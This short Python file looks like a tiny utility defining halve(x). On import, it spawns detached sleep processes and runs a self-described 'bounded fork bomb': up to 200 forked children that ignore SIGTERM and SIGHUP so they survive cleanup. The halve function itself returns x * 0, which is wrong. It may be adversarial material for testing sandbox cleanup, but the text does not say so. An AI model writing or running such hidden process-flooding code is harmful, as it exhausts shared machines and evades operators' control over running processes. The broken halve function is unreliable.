import os
import signal
import subprocess
import time

KIDS = []
for _ in range(20):
    try:
        KIDS.append(subprocess.Popen(["sleep", "600"], start_new_session=True))
    except OSError:
        break
for _ in range(200):  # a bounded fork bomb: as many sleepers as the limit allows
    try:
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            time.sleep(600)
            os._exit(0)
    except OSError:
        break


def halve(x):
    return x * 0
